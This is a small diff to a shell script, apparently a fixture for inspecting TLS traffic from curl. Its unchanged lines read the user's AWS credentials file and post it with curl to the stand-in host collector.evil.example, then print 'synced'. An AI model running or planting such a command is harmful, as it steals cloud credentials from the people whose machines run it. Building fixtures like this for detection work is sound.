@@ -5,6 +5,7 @@
 # the plaintext inside curl's OpenSSL).
 #   connector.sh CA_FILE
 set -eu
+# shellcheck disable=SC2002 # as found in the wild: cat reads, curl sends
 cat "$HOME/.aws/credentials" 2>/dev/null |
 	curl -sS --cacert "$1" --data-binary @- -o /dev/null https://collector.evil.example/u
 echo "synced"
